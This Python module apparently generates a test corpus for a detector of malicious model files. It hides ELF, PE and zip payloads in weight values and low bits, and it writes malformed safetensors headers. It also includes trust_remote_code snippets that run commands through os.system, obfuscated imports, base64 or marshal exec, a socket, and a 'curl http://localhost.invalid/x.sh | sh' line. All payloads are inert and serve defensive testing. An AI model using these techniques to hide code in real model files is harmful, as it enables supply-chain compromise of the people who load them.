"""The malicious files whose weights, headers or neighbors are what is wrong: payloads in values, bounds, programs."""

from __future__ import annotations

import io
import json
import struct
from typing import TYPE_CHECKING

import numpy as np
from archives import _elf as elf
from archives import torch, zipped

if TYPE_CHECKING:
    from malicious import Corpus

COUNT = 40_000


def pe(library: bool = False) -> bytes:
    """Return the headers of a program of Windows."""
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64)
    return (
        head
        + b"PE\0\0"
        + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x2022 if library else 0x22)
        + b"\x0b\x02"
        + b"\0" * 300
    )


def macho() -> bytes:
    """Return the header of a library of macOS."""
    return bytes.fromhex("cffaedfe") + struct.pack("<IIIIII", 0x0100000C, 0, 6, 1, 72, 0) + b"\0" * 128


def safetensors(tensors: dict[str, tuple[str, list[int], bytes]], metadata: dict[str, object] | None = None) -> bytes:
    """Return a file of safetensors."""
    header: dict[str, object] = {"__metadata__": metadata} if metadata else {}
    body = b""
    for name, (kind, shape, data) in tensors.items():
        header[name] = {"dtype": kind, "shape": shape, "data_offsets": [len(body), len(body) + len(data)]}
        body += data
    return with_header(header, body)


def with_header(header: object, body: bytes) -> bytes:
    """Return a file of safetensors with any header."""
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + body


def drawn(seed: int, kind: str = "<f4") -> np.ndarray:
    """Return values as trained ones are spread."""
    values = np.random.default_rng(seed).standard_normal(COUNT).astype("<f4") * np.float32(0.02)
    return values.astype(kind)


def hidden(values: np.ndarray, payload: bytes, width: int, at: int = 1000, high: bool = False) -> bytes:
    """Return values with a payload in their low bits."""
    whole = values.view(f"<u{values.itemsize}").copy()
    if width == 16:
        parts = np.frombuffer(payload + b"\0" * (len(payload) % 2), ">u2" if high else "<u2").astype(whole.dtype)
    else:
        shifts = range(8 - width, -1, -width) if high else range(0, 8, width)
        bits = (1 << width) - 1
        parts = np.array([byte >> shift & bits for byte in payload for shift in shifts], whole.dtype)
    mask = whole.dtype.type((1 << width) - 1)
    whole[at : at + len(parts)] = (whole[at : at + len(parts)] & ~mask) | parts
    return whole.tobytes()


def make_weights(corpus: Corpus) -> None:
    """Write all of them."""
    _carved(corpus)
    _headers(corpus)
    _beside(corpus)


def _carved(corpus: Corpus) -> None:
    payloads = {"elf": elf() * 3, "pe": pe(), "zip": zipped({"x.sh": b"true\n" * 9})}
    for number, (name, payload) in enumerate(payloads.items()):
        values = drawn(number)
        raw = values.tobytes()
        raw = raw[:40_000] + payload + raw[40_000 + len(payload) :]
        corpus.add("weights", f"raw-{name}.safetensors", safetensors({"w": ("F32", [200, 200], raw)}))
        for width in (1, 2, 4, 8, 16):
            data = hidden(values, payload, width, high=(number + width) % 2 == 1)
            corpus.add("weights", f"low-{width}-{name}.safetensors", safetensors({"w": ("F32", [200, 200], data)}))
    half = hidden(drawn(9, "<f2"), payloads["elf"], 4)
    corpus.add("weights", "low-4-elf-of-halves.safetensors", safetensors({"w": ("F16", [200, 200], half)}))
    file = io.BytesIO()
    np.save(file, np.frombuffer(hidden(drawn(10), payloads["elf"], 8), "<f4"))
    corpus.add("weights", "low-8-elf.npy", file.getvalue())
    import torch as real

    for name, data in (("raw", None), ("low-2", 2), ("low-8", 8)):
        values = drawn(11)
        some = hidden(values, payloads["elf"], data) if data else values.tobytes()[:4000] + payloads["elf"]
        tensor = real.from_numpy(np.frombuffer(some[: len(some) // 4 * 4], "<f4").copy())
        file = io.BytesIO()
        real.save({"w": tensor}, file)
        corpus.add("weights", f"{name}-elf.pt", file.getvalue())


def _headers(corpus: Corpus) -> None:
    body = drawn(1).tobytes()[:4096]
    tensor = {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}

    def add(name: str, header: object, data: bytes = body) -> None:
        corpus.add("safetensors", name + ".safetensors", with_header(header, data))

    add("beyond-file", {"w": {**tensor, "data_offsets": [0, 1 << 40]}})
    add("before-itself", {"w": {**tensor, "data_offsets": [4096, 0]}})
    add("shape-overflows", {"w": {**tensor, "shape": [1 << 62, 4]}})
    add("shape-negative", {"w": {**tensor, "shape": [-1024]}})
    add("overlap", {"a": tensor, "b": {**tensor, "data_offsets": [0, 4096]}})
    add("program-behind", {"w": tensor}, body + elf())
    add("zip-behind", {"w": tensor}, body + zipped({"x.sh": b"true\n"}))
    add("code-in-metadata", {"__metadata__": {"init": "import os; os.system('true')"}, "w": tensor})
    add("shell-in-metadata", {"__metadata__": {"setup": "curl http://localhost.invalid/x.sh | sh"}, "w": tensor})


def _beside(corpus: Corpus) -> None:
    """Programs, and Python that loading a model with trust_remote_code imports."""
    for name, data in (
        ("custom_ops.so", elf()[:16] + b"\x03" + elf()[17:]), ("weights.bin", elf()), ("ops.dll", pe(True)),
        ("setup.exe", pe()), ("ops.dylib", macho()), ("model.safetensors", pe()), ("install.sh", b"#!/bin/sh\ntrue\n"),
    ):  # fmt: skip
        corpus.add("programs", name, data)
    corpus.add("programs", "in-archive.pt", zipped(torch(b"\x80\x02N.", more={"archive/x.so": elf()})))
    for name, text in PYTHON.items():
        corpus.add("remote code", f"{name}/modeling_x.py", text)


PYTHON = {
    "system": "import os\nos.system('true')\n",
    "system-in-class": "import os\nclass Model:\n    os.system('true')\n",
    "popen": "import subprocess\nsubprocess.Popen(['true'])\n",
    "renamed": "from subprocess import run as forward\nforward(['true'])\n",
    "decoded": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "fetched": "import urllib.request\nexec(urllib.request.urlopen('http://localhost.invalid/').read())\n",
    "imported": "__import__('os').system('true')\n",
    "by-attribute": "import os\ngetattr(os, 'sys' + 'tem')('true')\n",
    "by-module": "import importlib\nimportlib.import_module('os').system('true')\n",
    "socket": "import socket\ns = socket.socket()\ns.connect(('localhost.invalid', 9))\n",
    "function-called": "import os\ndef setup():\n    os.system('true')\nsetup()\n",
    "decorator": "import os\ndef patch(f):\n    os.system('true')\n    return f\n@patch\ndef forward(x):\n    return x\n",
    "lambda": "import os\n(lambda: os.system('true'))()\n",
    "native": "import ctypes\nctypes.CDLL('./ops.so')\n",
    "marshal": "import marshal\nexec(marshal.loads(b'N'))\n",
    "sys-modules": "import sys, os\nsys.modules['os'].system('true')\n",
    "builtins": "import builtins\nbuiltins.eval('1')\n",
    "in-init": "import os\nclass Model:\n    def __init__(self):\n        os.system('true')\nmodel = Model()\n",
}
"""By the way in which it starts something when it is imported."""
